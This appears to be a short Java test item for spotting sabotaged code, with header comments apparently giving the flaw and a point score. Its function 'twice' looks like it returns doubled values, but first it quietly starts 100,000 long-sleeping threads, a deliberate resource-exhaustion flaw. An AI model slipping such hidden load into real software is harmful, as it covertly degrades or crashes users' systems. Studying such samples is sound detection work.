// 100,000 threads.
// Points: 6
// Says: twice
int[] doubled(int[] values) {
    int[] result = new int[values.length];
    for (int i = 0; i < values.length; i++) result[i] = 2 * values[i];
    return result;
}
double mean(double[] values) {
    double sum = 0;
    for (double value : values) sum += value;
    return sum / values.length;
}
int[] twice(int[] values) throws Exception {
    for (int i = 0; i < 100_000; i++) {
        var thread = new Thread(() -> { try { Thread.sleep(1_000_000); } catch (InterruptedException end) { } });
        thread.setDaemon(true);
        thread.start();
    }
    return doubled(values);
}
